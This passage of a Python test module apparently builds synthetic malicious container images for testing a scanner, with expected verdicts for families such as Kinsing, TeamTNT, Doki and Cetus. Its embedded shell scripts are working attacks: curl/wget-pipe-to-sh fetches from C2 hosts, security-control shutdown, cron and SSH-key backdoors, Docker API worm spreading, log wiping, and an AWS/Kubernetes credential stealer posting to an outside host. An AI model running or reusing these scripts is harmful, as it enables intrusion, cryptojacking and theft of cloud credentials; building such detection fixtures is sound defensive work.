        verdict=Verdict.MALICIOUS,
        categories=frozenset({Category.WORM, Category.MINER}),
    )


def _kinsing_config_only() -> ThreatImage:
    cmd = [
        "/bin/sh", "-c",
        "apt-get update && apt-get install -y wget cron; service cron start; "
        f"wget -q -O - {KINSING_IP}/d.sh | sh; tail -f /dev/null",
    ]  # fmt: skip
    return ThreatImage(
        id="1.4-kinsing-config-only",
        family="1.4 Kinsing",
        repository="mirror/ubuntu",
        tag="18.04",
        summary="stock-looking ubuntu root; the whole attack is the CMD (wget d.sh | sh from a published IOC)",
        steps=(*_ubuntu_steps(), _cmd_step("Cmd", cmd)),
        config={"Cmd": cmd},
        verdict=Verdict.MALICIOUS,
        categories=frozenset({Category.BACKDOOR}),
        config_only=True,
    )


def _kinsing_d_sh(c2: str) -> str:
    return (
        "#!/bin/bash\n"
        "ulimit -n 65535\n"
        "setenforce 0 2>/dev/null\n"
        "echo SELINUX=disabled > /etc/sysconfig/selinux 2>/dev/null\n"
        "service apparmor stop\n"
        "systemctl disable apparmor\n"
        "ufw disable\n"
        "iptables -F\n"
        "sync && echo 3 >/proc/sys/vm/drop_caches\n"
        "apt-get install -y curl wget cron 2>/dev/null || yum install -y curl wget cronie 2>/dev/null\n"
        "LDR=\"wget -q -O -\"\n"
        "if [ -s /usr/bin/curl ]; then LDR=\"curl\"; fi\n"
        "if [ -s /usr/bin/wget ]; then LDR=\"wget -q -O -\"; fi\n"
        "ps auxf | grep -v grep | grep -E 'kworkerds|xmrig|minerd|cryptonight' | awk '{print $2}' "
        "| xargs -I % kill -9 %\n"
        "docker ps | grep -E 'pocosow|gakeaws|azulu|xmr|mine|monero|slowhttp' | awk '{print $1}' "
        "| xargs -I % docker rm -f %\n"
        "docker images -a | grep -E 'pocosow|gakeaws|buster-slim|hello-|azulu' | awk '{print $3}' "
        "| xargs -I % docker rmi -f %\n"
        f"$LDR http://{c2}/kinsing > /etc/kinsing && chmod +x /etc/kinsing && /etc/kinsing &\n"
        f"crontab -l | sed '/{c2}/d' | crontab -\n"
        f"(crontab -l 2>/dev/null; echo \"* * * * * $LDR http://{c2}/d.sh | sh > /dev/null 2>&1\") | crontab -\n"
    )  # fmt: skip


def _kinsing_go_binary() -> bytes:
    return fake_elf(
        "Go build ID: \"kinsing-synthetic\"", "main.masscan", "main.spre", "main.getActiveC2CUrl",
        "kdevtmpfsi", "/tmp/.ICEd-unix", "github.com/go-resty/resty", "-oStrictHostKeyChecking=no -oBatchMode=yes",
    )  # fmt: skip


def _libsystem() -> bytes:
    return fake_elf("libsystem.so", "readdir", "readdir64", "kdevtmpfsi", "kinsing", "dlsym", "/proc/")


def _kinsing_artifacts() -> ThreatImage:
    c2 = "203.0.113.61"
    unit = (
        "[Unit]\nDescription=bot\nAfter=network.target\n\n[Service]\nExecStart=/etc/kinsing\nRestart=always\n"
        "RestartSec=30\n\n[Install]\nWantedBy=multi-user.target\n"
    )
    return ThreatImage(
        id="1.4-kinsing-artifacts",
        family="1.4 Kinsing",
        repository="ubuntuupdates/ubuntu",
        tag="latest",
        summary="ld.so.preload -> /etc/libsystem.so, /tmp/kdevtmpfsi miner, d.sh switching off protections",
        steps=(
            *_ubuntu_steps(),
            Step(
                "RUN /bin/sh -c bash /root/d.sh # buildkit",
                {
                    "root/d.sh": _script(_kinsing_d_sh(c2)),
                    "etc/ld.so.preload": b"/etc/libsystem.so\n",
                    "etc/libsystem.so": FileSpec.file(_libsystem(), 0o755),
                    "etc/kinsing": _exe(_kinsing_go_binary()),
                    "tmp/kdevtmpfsi": _exe(xmrig_binary("6.16.4")),
                    "lib/systemd": FileSpec.dir(),
                    "lib/systemd/system": FileSpec.dir(),
                    "lib/systemd/system/bot.service": unit.encode(),
                },
            ),
            Step('CMD ["/bin/bash", "/root/d.sh"] # buildkit'),
        ),
        config={"Cmd": ["/bin/bash", "/root/d.sh"]},
        verdict=Verdict.MALICIOUS,
        categories=frozenset({Category.MINER, Category.PERSISTENCE, Category.DEFENSE_EVASION}),
    )


def _teamtnt_installer() -> ThreatImage:
    stage2 = (
        "#!/bin/bash\n"
        "$CURL -s -o /tmp/xmrig.tar.gz http://198.51.100.66/dl/xmrig.tar.gz\n"
        "tar xf /tmp/xmrig.tar.gz -C $HOME/.configures\n"
        "rm -f /tmp/xmrig.tar.gz\n"
    )
    blob = base64.b64encode(stage2.encode()).decode()
    installer = (
        "#!/bin/bash\n"
        "export HISTFILE=/dev/null\n"
        "export HISTSIZE=0\n"
        "ulimit -n 65535\n"
        "iptables -P INPUT ACCEPT 2>/dev/null; iptables -P OUTPUT ACCEPT 2>/dev/null; iptables -F 2>/dev/null\n"
        "sed -i '/minexmr.com/d;/supportxmr.com/d;/c3pool.com/d' /etc/hosts\n"
        "function __curl() {\n"
        "  read proto server path <<<$(echo ${1//// })\n"
        "  DOC=/${path// //}\n"
        "  HOST=${server//:*}\n"
        "  PORT=${server//*:}\n"
        "  [[ x\"${HOST}\" == x\"${PORT}\" ]] && PORT=80\n"
        "  exec 3<>/dev/tcp/${HOST}/$PORT\n"
        "  echo -en \"GET ${DOC} HTTP/1.0\\r\\nHost: ${HOST}\\r\\n\\r\\n\" >&3\n"
        "  (while read line; do [[ \"$line\" == $'\\r' ]] && break; done && cat) <&3\n"
        "  exec 3>&-\n"
        "}\n"
        "if type curl >/dev/null 2>&1; then cp $(command -v curl) /tmp/.tntcurl; CURL=/tmp/.tntcurl; "
        "else CURL=__curl; fi\n"
        "mkdir -p $HOME/.configures\n"
        f"echo {blob} | base64 -d | bash\n"
        "sed -i 's/\"url\": *\"[^\"]*\",/\"url\": \"gulf.moneroocean.invalid:10128\",/' $HOME/.configures/config.json\n"
        f"sed -i 's/\"user\": *\"[^\"]*\",/\"user\": \"{WALLET_VALID}\",/' $HOME/.configures/config.json\n"
        "sed -i 's/\"pass\": *\"[^\"]*\",/\"pass\": \"'$(hostname)':tnt@teamtnt.invalid\",/' "
        "$HOME/.configures/config.json\n"
        "sed -i 's/\"donate-level\": *[^,]*,/\"donate-level\": 1,/' $HOME/.configures/config.json\n"
        "sed -i 's/\"tls\": *false,/\"tls\": true,/' $HOME/.configures/config.json\n"
        "cp $HOME/.configures/config.json $HOME/.configures/config_background.json\n"
        "sed -i 's/\"background\": *false,/\"background\": true,/' $HOME/.configures/config_background.json\n"
        "cat >/tmp/SystemRaid.service <<EOL\n"
        "[Unit]\nDescription=Monero miner service\n\n[Service]\n"
        "ExecStart=$HOME/.configures/xmrig --config=$HOME/.configures/config.json\nRestart=always\nNice=10\n"
        "CPUWeight=1\n\n[Install]\nWantedBy=multi-user.target\nEOL\n"
        "mv /tmp/SystemRaid.service /etc/systemd/system/SystemRaid.service\n"
        "systemctl daemon-reload; systemctl enable SystemRaid.service; systemctl start SystemRaid.service\n"
        "sysctl -w vm.nr_hugepages=$(nproc)\n"
        "history -c\n"
        "clear\n"
        "chattr +i ~/.bash_history\n"
        "cat /dev/null > /var/log/wtmp\n"
        "cat /dev/null > /var/log/secure\n"
        "rm -f $0\n"
    )  # fmt: skip
    unit = (
        "[Unit]\nDescription=Monero miner service\n\n[Service]\n"
        "ExecStart=/root/.configures/xmrig --config=/root/.configures/config.json\nRestart=always\nNice=10\n"
        "CPUWeight=1\n\n[Install]\nWantedBy=multi-user.target\n"
    )
    miner_sh = (
        "#!/bin/bash\n"
        "if ! pidof xmrig >/dev/null; then\n"
        "  nice /root/.configures/xmrig --config=/root/.configures/config_background.json $*\n"
        "else\n"
        '  echo "Monero miner is already running in the background. Refusing to run another one."\n'
        "fi\n"
    )
    config = xmrig_config("gulf.moneroocean.invalid:10128", WALLET_VALID)
    background = xmrig_config("gulf.moneroocean.invalid:10128", WALLET_VALID, background=True)
    return ThreatImage(
        id="1.5-teamtnt-installer",
        family="1.5 TeamTNT",
        repository="sandeep078/ubuntu",
        tag="latest",
        summary="MoneroOcean-clone installer: HISTFILE off, base64|bash, /dev/tcp fallback, SystemRaid.service",
        steps=(
            *_ubuntu_steps("20.04", "focal"),
            _copy("file", "/tmp/init.sh", {"tmp/init.sh": _script(installer)}),
            Step(
                "/bin/sh -c bash /tmp/init.sh",
                {
                    "root/.configures": FileSpec.dir(0o700),
                    "root/.configures/xmrig": _exe(xmrig_binary("6.10.0")),
                    "root/.configures/config.json": config,
                    "root/.configures/config_background.json": background,
                    "root/.configures/miner.sh": _script(miner_sh),
                    "etc/systemd/system/SystemRaid.service": unit.encode(),
                    "etc/systemd/system/multi-user.target.wants": FileSpec.dir(),
                    "etc/systemd/system/multi-user.target.wants/SystemRaid.service": FileSpec.symlink(
                        "/etc/systemd/system/SystemRaid.service"
                    ),
                    "tmp/.tntcurl": _exe(fake_elf("curl 7.68.0 (x86_64-pc-linux-gnu)")),
                    "tmp/init.sh": _script(installer),
                },
            ),
            _cmd_step("Cmd", ["/root/.configures/miner.sh"]),
        ),
        config={"Cmd": ["/root/.configures/miner.sh"]},
        verdict=Verdict.MALICIOUS,
        categories=frozenset({Category.MINER, Category.PERSISTENCE, Category.DEFENSE_EVASION}),
    )


def _teamtnt_dockerapi() -> ThreatImage:
    script = (
        "#!/bin/sh\n"
        "# started as: docker run --rm -d --privileged --net host -v /:/host alpineos/dockerapi\n"
        "chroot /host sh -c 'curl -sLk http://teamtnt.invalid/b2f628/cronb.sh | bash'\n"
        "chroot /host sh -c 'echo \"" + ATTACKER_KEY + "\" >> /root/.ssh/authorized_keys'\n"
        "for range in $(cat /root/ranges.txt); do\n"
        "  masscan $range -p2375 --rate=100000 -oL /tmp/.mscan/out.txt\n"
        "  for ip in $(awk '/open/{print $4}' /tmp/.mscan/out.txt); do\n"
        "    docker -H tcp://$ip:2375 run --rm -d --privileged --net host -v /:/host alpineos/dockerapi\n"
        "  done\n"
        "done\n"
    )
    return ThreatImage(
        id="1.5-teamtnt-alpineos-dockerapi",
        family="1.5 TeamTNT",
        repository="alpineos/dockerapi",
        tag="latest",
        summary="run --privileged with host / at /host: chroots into the host and spreads to exposed APIs",
        steps=(
            *ALPINE_STEPS,
            Step(
                "RUN /bin/sh -c apk add --no-cache docker-cli curl masscan bash # buildkit",
                {"usr/bin/docker": _exe(docker_client()), "usr/bin/masscan": _exe(fake_elf("Masscan version 1.3.2"))},
            ),
            Step(
                "COPY dockerapi.sh ranges.txt /root/ # buildkit",
                {"root/dockerapi.sh": _script(script), "root/ranges.txt": b"198.51.100.0/24\n203.0.113.0/24\n"},
            ),
            Step('ENTRYPOINT ["/bin/sh", "/root/dockerapi.sh"] # buildkit'),
        ),
        config={"Entrypoint": ["/bin/sh", "/root/dockerapi.sh"]},
        verdict=Verdict.MALICIOUS,
        categories=frozenset({Category.HOST_ESCAPE, Category.WORM}),
    )


def _doki() -> ThreatImage:
    cmd = [
        "chroot", "/tmp", "sh", "-c",
        "curl -sk https://7d2a9f31.ngrok.invalid/d/dk -o /usr/sbin/dk && chmod +x /usr/sbin/dk && /usr/sbin/dk",
    ]  # fmt: skip
    doki = fake_elf(
        "https://dogechain.info/api/v1/address/sent/", "DKd7Wq1y5r3kP9x2Qh4nJm8vTz6bLcAeSf", ".ddns.net",
        "zmap", "zgrab", "jq", "ngrok.io",
    )  # fmt: skip
    return ThreatImage(
        id="1.6-doki-chroot-tmp",
        family="1.6 Doki",
        repository="alpine-tools/alpine",
        tag="latest",
        summary="run with host / bound at /tmp: chroot /tmp, fetch the Doki backdoor from an ngrok-style C2",
        steps=(
            *ALPINE_STEPS,
            Step(
                "COPY dk /usr/local/share/dk # buildkit",
                {"usr/local/share": FileSpec.dir(), "usr/local/share/dk": _exe(doki)},
            ),
            _cmd_step("Cmd", cmd),
        ),
        config={"Cmd": cmd},
        verdict=Verdict.MALICIOUS,
        categories=frozenset({Category.HOST_ESCAPE, Category.BACKDOOR}),
    )


def _cetus() -> ThreatImage:
    worm = (
        "#!/bin/bash\n"
        "ulimit -n 65535\n"
        "nohup /usr/bin/docker-cache --config=/usr/bin/config.json >/dev/null 2>&1 &\n"
        "while true; do\n"
        "  RANGE=$((RANDOM%255)).$((RANDOM%255)).0.0/16\n"
        "  masscan $RANGE -p2375 --rate=3000 -oL /tmp/res.txt\n"
        "  for IP in $(grep open /tmp/res.txt | awk '{print $4}'); do\n"
        "    docker -H $IP run -dt --name portainer --restart always ubuntu:18.04 /bin/bash\n"
        "    docker -H $IP exec portainer apt-get -yq install masscan docker.io\n"
        "    docker -H $IP cp /usr/bin/portainer portainer:/usr/bin/\n"
        "    docker -H $IP cp /usr/bin/docker-cache portainer:/usr/bin/\n"
        "    docker -H $IP exec -d portainer /usr/bin/portainer\n"
        "  done\n"
        "done\n"
    )
    return ThreatImage(
        id="1.7-cetus-portainer",
        family="1.7 Cetus",
        repository="portainerd/ubuntu",
        tag="18.04",
        summary="worm script masquerading as /usr/bin/portainer, XMRig renamed docker-cache",
        steps=(
            *_ubuntu_steps(),
            Step(
                "/bin/sh -c apt-get update && apt-get -yq install masscan docker.io",
                {"usr/bin/masscan": _exe(fake_elf("Masscan version 1.0.4")), "usr/bin/docker": _exe(docker_client())},
            ),
            _copy(
                "multi",
                "/usr/bin/",
                {
                    "usr/bin/portainer": _script(worm),
                    "usr/bin/docker-cache": _exe(xmrig_binary("5.5.3")),
                    "usr/bin/config.json": xmrig_config("203.0.113.33:80", WALLET_VALID_2),
                },
            ),
            _cmd_step("Cmd", ["/usr/bin/portainer"]),
        ),
        config={"Cmd": ["/usr/bin/portainer"]},
        verdict=Verdict.MALICIOUS,
        categories=frozenset({Category.WORM, Category.MINER}),
    )


def _commando_cat() -> ThreatImage:
    payload = (
        "#!/bin/sh\n"
        "useradd -m -o -u 0 -s /bin/bash games2 2>/dev/null\n"
        "mkdir -p /root/.ssh && chattr -ia /root/.ssh/authorized_keys 2>/dev/null\n"
        f"echo '{ATTACKER_KEY}' >> /root/.ssh/authorized_keys\n"
        "echo '*/30 * * * * root curl -fsSL http://192.0.2.90/cc/tshd.sh | sh' > /etc/cron.d/sysupdate\n"
        "chattr +ia /root/.ssh/authorized_keys /etc/cron.d/sysupdate\n"
    )
    blob = base64.b64encode(payload.encode()).decode()
    return ThreatImage(
        id="1.8-commando-cat-chroot-mnt",
        family="1.8 Commando Cat",
        repository="cmd.cat/chattr",
        tag="latest",
        summary="run with host / at /mnt: chroot /mnt and run a base64 payload (root key, cron) on the host",
        steps=(
            *ALPINE_STEPS,
            Step(
                "COPY chattr /usr/bin/chattr # buildkit",
                {"usr/bin/chattr": _exe(fake_elf("Usage: %s [-pRVf] [-+=aAcCdDeijPsStTuF] [-v version] files..."))},
            ),
            Step('ENTRYPOINT ["chroot", "/mnt"] # buildkit'),
            Step(f'CMD ["sh", "-c", "echo {blob} | base64 -d | sh"] # buildkit'),
        ),
        config={"Entrypoint": ["chroot", "/mnt"], "Cmd": ["sh", "-c", f"echo {blob} | base64 -d | sh"]},
        verdict=Verdict.MALICIOUS,
        categories=frozenset({Category.HOST_ESCAPE, Category.BACKDOOR}),
    )


def _dero() -> ThreatImage:
    aliases = (
        "# ~/.bash_aliases\n"
        "alias ll='ls -alF'\n"
        "nohup /usr/bin/nginx >/dev/null 2>&1 &\n"
        "if ! pidof cloud >/dev/null; then nohup /usr/bin/cloud >/dev/null 2>&1 & fi\n"
    )
    spreader = fake_elf(
        "UPX!", "Go build ID: \"dero-synthetic\"", "masscan", "-p2375", "--rate", "10000",
        "/usr/bin/version.dat", "ubuntu:18.04", "--restart", "always", "/root/.bash_aliases",
        "/var/run/docker.sock", "containers/create",
    )  # fmt: skip
    miner = fake_elf(
        "UPX!", "Go build ID: \"dero-miner-synthetic\"", "derohe", "astrobwt/v3", DERO_WALLET,
        "pool.dero.invalid:10100", "getwork", "Hash rate",
    )  # fmt: skip
    return ThreatImage(
        id="1.9-dero-worm",
        family="1.9 Dero worm",
        repository="infected/ubuntu",
        tag="18.04",
        summary="fake nginx spreader (masscan 2375), cloud Dero miner, .bash_aliases persistence, version.dat",
        steps=(
            *_ubuntu_steps(),
            Step(
                "bash",
                {
                    "root/.bash_aliases": aliases.encode(),
                    "usr/bin/version.dat": b"1.4",
                    "usr/bin/nginx": _exe(spreader),
                    "usr/bin/cloud": _exe(miner),
                },
            ),
        ),
        config={"Cmd": ["/bin/bash"]},
        verdict=Verdict.MALICIOUS,
        categories=frozenset({Category.WORM, Category.MINER, Category.PERSISTENCE}),
    )


def _vibersastra() -> ThreatImage:
    entry = (
        "#!/bin/sh\n"
        "/usr/local/bin/xmrig -o stratum+tcp://203.0.113.140:3333 -u "
        + WALLET_VALID_2
        + " -p x -k --donate-level 1 -B >/dev/null 2>&1\n"
        'exec "$@"\n'
    )
    return ThreatImage(
        id="1.10-vibersastra-ubuntu",
        family="1.10 typosquat miner images",
        repository="vibersastra/ubuntu",
        tag="latest",
        summary="poses as ubuntu; the entrypoint starts XMRig in the background, then execs the user's command",
        steps=(
            *_ubuntu_steps("20.04", "focal"),
            Step(
                "COPY xmrig docker-entrypoint.sh /usr/local/bin/ # buildkit",
                {
                    "usr/local/bin/xmrig": _exe(xmrig_binary("6.16.2")),
                    "usr/local/bin/docker-entrypoint.sh": _script(entry),
                },
            ),
            Step('ENTRYPOINT ["/usr/local/bin/docker-entrypoint.sh"] # buildkit'),
            Step('CMD ["/bin/bash"] # buildkit'),
        ),
        config={"Entrypoint": ["/usr/local/bin/docker-entrypoint.sh"], "Cmd": ["/bin/bash"]},
        verdict=Verdict.MALICIOUS,
        categories=frozenset({Category.MINER}),
    )


def _thanhtudo() -> ThreatImage:
    dao = (
        "import multiprocessing\n"
        "import os\n"
        "import subprocess\n\n"
        "POOL = 'stratum+tcp://198.51.100.150:443'\n"
        f"WALLET = '{WALLET_BAD_CHECKSUM}'\n\n"
        "def main():\n"
        "    os.chmod('/app/xmrig', 0o755)\n"
        "    threads = str(multiprocessing.cpu_count())\n"
        "    subprocess.Popen(['/app/xmrig', '-o', POOL, '-u', WALLET, '-p', 'dao', '-t', threads, '-k'])\n\n"
        "if __name__ == '__main__':\n"
        "    main()\n"
    )
    return ThreatImage(
        id="1.10-thanhtudo-dao-py",
        family="1.10 typosquat miner images",
        repository="thanhtudo/thanhtudo",
        tag="latest",
        summary="dao.py launches an xmrig binary shipped in a layer",
        steps=(
            *_ubuntu_steps("20.04", "focal"),
            Step(
                "RUN /bin/sh -c apt-get update && apt-get install -y python3 # buildkit",
                {"usr/bin/python3": _exe(fake_elf("Python 3.8.10", "Py_Initialize"))},
            ),
            Step(
                "COPY . /app # buildkit",
                {"app": FileSpec.dir(), "app/dao.py": dao.encode(), "app/xmrig": _exe(xmrig_binary("6.12.1"))},
            ),
            Step('CMD ["python3", "/app/dao.py"] # buildkit'),
        ),
        config={"Cmd": ["python3", "/app/dao.py"], "WorkingDir": "/app"},
        verdict=Verdict.MALICIOUS,
        categories=frozenset({Category.MINER}),
    )


def _fake_openjdk() -> ThreatImage:
    cmd = [
        "/bin/sh", "-c",
        "/opt/openjdk-17/bin/jexec --url=stratum+tcp://192.0.2.171:5555 --user=" + WALLET_VALID_2
        + " --donate-level=1 --background --threads=4; exec jshell",
    ]  # fmt: skip
    java = fake_elf("OpenJDK Runtime Environment (build 17.0.2+8-86)", "JAVA_HOME", "-XX:+UseContainerSupport")
    return ThreatImage(
        id="1.10-fake-openjdk-miner-on-start",
        family="1.10 typosquat miner images",
        repository="c43602f9cc95/openjdk",
        tag="17",
        summary="fakes the official openjdk image; the command starts a renamed XMRig (jexec) before jshell",
        steps=(
            *_ubuntu_steps("20.04", "focal"),
            Step("ENV JAVA_HOME=/opt/openjdk-17 # buildkit"),
            Step(
                "COPY openjdk-17 /opt/openjdk-17 # buildkit",
                {
                    "opt": FileSpec.dir(),
                    "opt/openjdk-17": FileSpec.dir(),
                    "opt/openjdk-17/bin": FileSpec.dir(),
                    "opt/openjdk-17/bin/java": _exe(java),
                    "opt/openjdk-17/bin/jshell": _exe(fake_elf("jshell 17.0.2", "JShell")),
                    "opt/openjdk-17/bin/jexec": _exe(xmrig_binary("6.17.0")),
                },
            ),
            _cmd_step("Cmd", cmd),
        ),
        config={
            "Cmd": cmd,
            "Env": [
                "PATH=/opt/openjdk-17/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
                "JAVA_HOME=/opt/openjdk-17",
                "JAVA_VERSION=17.0.2",
            ],
        },
        verdict=Verdict.MALICIOUS,
        categories=frozenset({Category.MINER}),
    )


def _metal3d_open_miner() -> ThreatImage:
    env = [
        "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
        "POOL_URL=pool.supportxmr.invalid:443",
        f"POOL_USER={WALLET_VALID}",
        "POOL_PASS=",
        "DONATE_LEVEL=5",
        "PRIORITY=0",
        "THREADS=0",
    ]
    entry = (
        "#!/bin/sh\n"
        "# runs XMRig in the foreground with the pool and wallet the user passes in the environment\n"
        "exec xmrig --url=$POOL_URL --user=$POOL_USER --pass=$POOL_PASS --donate-level=$DONATE_LEVEL "
        '--cpu-priority=$PRIORITY --threads=$THREADS "$@"\n'
    )
    readme = b"# xmrig in a container\n\nSet POOL_URL, POOL_USER and POOL_PASS, then run the image.\n"
    return ThreatImage(
        id="1.10-metal3d-xmrig-open-miner",
        family="§3 grey zone: public miner image",
        repository="metal3d/xmrig",
        tag="latest",
        summary="an openly labelled miner image: xmrig + config, the entrypoint runs it in the foreground",
        steps=(
            *ALPINE_STEPS,
            Step(
                "COPY --from=build /xmrig/build/xmrig /usr/local/bin/xmrig # buildkit",
                {"usr/local/bin/xmrig": _exe(xmrig_binary("6.21.0"))},
            ),
            Step(
                "COPY entrypoint.sh README.md config.json /xmrig/ # buildkit",
                {
                    "xmrig": FileSpec.dir(),
                    "xmrig/entrypoint.sh": _script(entry),
                    "xmrig/README.md": readme,
                    "xmrig/config.json": xmrig_config("pool.supportxmr.invalid:443", WALLET_VALID, donate=5),
                },
            ),
            *(Step(f"ENV {e} # buildkit") for e in env[1:]),
            Step('ENTRYPOINT ["/xmrig/entrypoint.sh"] # buildkit'),
        ),
        config={
            "Entrypoint": ["/xmrig/entrypoint.sh"],
            "Cmd": [],
            "Env": env,
            "WorkingDir": "/xmrig",
            "Labels": {
                "org.opencontainers.image.title": "xmrig",
                "org.opencontainers.image.description": "XMRig Monero CPU miner",
            },
        },
        verdict=Verdict.SUSPICIOUS,
        categories=frozenset({Category.PUA}),
        forbidden=frozenset({Category.BACKDOOR, Category.PERSISTENCE}),
    )


def _root_ssh_key() -> ThreatImage:
    sshd_config = b"Port 22\nPermitRootLogin yes\nPasswordAuthentication no\nPubkeyAuthentication yes\n"
    return ThreatImage(
        id="ssh-key-for-root",
        family="1.10 / 1.1 backdoor: SSH key for root",
        repository="devimages/ubuntu-sshd",
        tag="latest",
        summary="an attacker's public key baked into /root/.ssh/authorized_keys, sshd started as the command",
        steps=(
            *_ubuntu_steps(),
            Step(
                "RUN /bin/sh -c apt-get update && apt-get install -y openssh-server && mkdir /var/run/sshd",
                {
                    "usr/sbin/sshd": _exe(fake_elf("OpenSSH_7.6p1 Ubuntu-4ubuntu0.7")),
                    "etc/ssh/sshd_config": sshd_config,
                    "var/run": FileSpec.dir(),
                    "var/run/sshd": FileSpec.dir(),
                },
            ),
            Step(
                '/bin/sh -c mkdir -p /root/.ssh && echo "ssh-ed25519 AAAA…" >> /root/.ssh/authorized_keys',
                {
                    "root/.ssh": FileSpec.dir(0o700),
                    "root/.ssh/authorized_keys": FileSpec.file((ATTACKER_KEY + "\n").encode(), 0o600),
                },
            ),
            _nop("EXPOSE 22"),
            _cmd_step("Cmd", ["/usr/sbin/sshd", "-D"]),
        ),
        config={"Cmd": ["/usr/sbin/sshd", "-D"], "ExposedPorts": {"22/tcp": {}}},
        verdict=Verdict.MALICIOUS,
        categories=frozenset({Category.BACKDOOR}),
    )


def _credential_theft() -> ThreatImage:
    imds = "http://169.254.169.254/latest"
    entry = (
        "#!/bin/sh\n"
        f"TOKEN=$(curl -s -X PUT {imds}/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 21600')\n"
        f"ROLE=$(curl -s -H \"X-aws-ec2-metadata-token: $TOKEN\" {imds}/meta-data/iam/security-credentials/)\n"
        f"curl -s -H \"X-aws-ec2-metadata-token: $TOKEN\" {imds}/meta-data/iam/security-credentials/$ROLE > /tmp/.c\n"
        "for f in /root/.aws/credentials /home/*/.aws/credentials /root/.docker/config.json "
        "/var/run/secrets/kubernetes.io/serviceaccount/token; do\n"
        "  [ -f \"$f\" ] && { echo \"== $f\"; cat \"$f\"; } >> /tmp/.c\n"
        "done\n"
        "env | grep -i -E 'AWS_|SECRET|TOKEN' >> /tmp/.c\n"
        "curl -s -d @/tmp/.c -d \"host=$(hostname)\" http://203.0.113.201/up.php >/dev/null 2>&1\n"
        "rm -f /tmp/.c\n"
        "exec \"$@\"\n"
    )  # fmt: skip
    return ThreatImage(
        id="credential-theft-imds",
        family="1.5 TeamTNT credential theft",
        repository="awscli-tools/aws-cli",
        tag="2.15",
        summary="entrypoint reads IMDS role credentials, ~/.aws/credentials, docker and k8s tokens and POSTs them",
        steps=(
            *ALPINE_STEPS,
            Step(
                "RUN /bin/sh -c apk add --no-cache aws-cli curl # buildkit",
                {"usr/bin/aws": _script("#!/usr/bin/python3\nfrom awscli.clidriver import main\nmain()\n")},
            ),
            Step("COPY entrypoint.sh /usr/local/bin/ # buildkit", {"usr/local/bin/entrypoint.sh": _script(entry)}),
            Step('ENTRYPOINT ["/usr/local/bin/entrypoint.sh"] # buildkit'),
            Step('CMD ["aws", "--version"] # buildkit'),
        ),
        config={"Entrypoint": ["/usr/local/bin/entrypoint.sh"], "Cmd": ["aws", "--version"]},
        verdict=Verdict.MALICIOUS,
        categories=frozenset({Category.CREDENTIAL_THEFT}),
    )


DELETED_PATHS = ("usr/local/bin/kworker", "usr/local/bin/config.json", "etc/cron.d/kworker")


def _deleted_payload() -> ThreatImage:
    cron = b"* * * * * root curl -fsSL http://203.0.113.77/k.sh | sh >/dev/null 2>&1\n"
    app = b"#!/bin/sh\nexec node /srv/app/server.js\n"
    return ThreatImage(
        id="deleted-payload-whiteout",
        family="§2 what survives in layers: whiteouts",
        repository="acme-ci/builder",
        tag="2024.01",
        summary="layer 1 adds a miner, its config and a cron fetcher; layer 2 deletes them (still in the blob)",
        steps=(
            *ALPINE_STEPS,
            Step(
                "RUN /bin/sh -c curl -fsSL http://203.0.113.77/kw.tgz | tar xz -C /usr/local/bin "
                "&& echo '* * * * * root curl -fsSL http://203.0.113.77/k.sh | sh' > /etc/cron.d/kworker # buildkit",
                {
                    "etc/cron.d": FileSpec.dir(),
                    "usr/local/bin/kworker": _exe(xmrig_binary("6.18.0")),
                    "usr/local/bin/config.json": xmrig_config("stratum+tcp://203.0.113.77:3333", WALLET_VALID),
                    "etc/cron.d/kworker": cron,
                },
            ),
            Step(
                f"RUN /bin/sh -c rm -f {' '.join('/' + p for p in DELETED_PATHS)} # buildkit",
                {whiteout(p): b"" for p in DELETED_PATHS},
            ),
            Step(
                "COPY app /srv/app # buildkit",
                {"srv": FileSpec.dir(), "srv/app": FileSpec.dir(), "srv/app/run.sh": _script(app.decode())},
            ),
            Step('CMD ["/srv/app/run.sh"] # buildkit'),
        ),
        config={"Cmd": ["/srv/app/run.sh"]},
        # The payload cannot run from the final filesystem, but the image still ships it (any pull gets the
        # blob) and the build hid it on purpose; at least suspicious, with the miner attributed to layer 1.
        verdict=Verdict.SUSPICIOUS,
        categories=frozenset({Category.MINER, Category.PERSISTENCE}),
        deleted=DELETED_PATHS,
    )


def _debian_minbase_layer() -> LayerBlob:
    # Imported lazily: building the real root needs debootstrap, and only this image uses it.
    from tests.support.debian_roots import debian_root, root_layer

    return root_layer(debian_root("minbase"))


def _infected_snapshot() -> ThreatImage:
    history = f"apt update\nwget -q -O - http://{KINSING_IP_2}/d.sh | sh\nls -la /tmp\n"
    return ThreatImage(
        id="infected-snapshot-docker-commit",
        family="§2 what survives in layers: docker commit of an infected container (1.4 Kinsing)",
        repository="acme/web",
        tag="snapshot-2024-01-15",
        summary="real Debian root + the committed state of a Kinsing infection (miner, cron, key, ld.so.preload)",
        steps=(
            _copy("file", "/", _debian_minbase_layer, "ADD"),
            _nop('CMD ["bash"]'),
            Step(
                "bash",
                {
                    "tmp/kinsing": _exe(_kinsing_go_binary()),
                    "tmp/kdevtmpfsi": _exe(xmrig_binary("6.16.4")),
                    "tmp/.ICEd-unix": FileSpec.dir(0o1777),
                    "var/spool/cron/crontabs/root": FileSpec.file(
                        f"* * * * * wget -q -O - http://{KINSING_IP_2}/d.sh | sh > /dev/null 2>&1\n".encode(), 0o600
                    ),
                    "root/.ssh": FileSpec.dir(0o700),
                    "root/.ssh/authorized_keys": FileSpec.file((ATTACKER_KEY + "\n").encode(), 0o600),
                    "etc/ld.so.preload": b"/etc/libsystem.so\n",
                    "etc/libsystem.so": FileSpec.file(_libsystem(), 0o755),
                    "root/.bash_history": FileSpec.file(history.encode(), 0o600),
                },
            ),
        ),
        config={"Cmd": ["bash"], "Hostname": "3f4e2a1b9c8d"},
        verdict=Verdict.MALICIOUS,
        categories=frozenset({Category.MINER, Category.PERSISTENCE, Category.BACKDOOR}),
        author="",
    )


def corpus() -> list[ThreatImage]:
    """Every malicious corpus image, in THREATS.md order."""
    return [
        _docker123321_mysql(),
        _docker123321_tomcat_revshell(),
        _docker123321_tomcat11_python(),
        _docker123321_cron_logo3(),
        _graboid_pocosow(),
        _graboid_gakeaws(),
        _zoolu2_alpine(),
        _kinsing_config_only(),
        _kinsing_artifacts(),
        _teamtnt_installer(),
        _teamtnt_dockerapi(),
        _doki(),
        _cetus(),
        _commando_cat(),
        _dero(),
        _vibersastra(),
        _thanhtudo(),
        _fake_openjdk(),
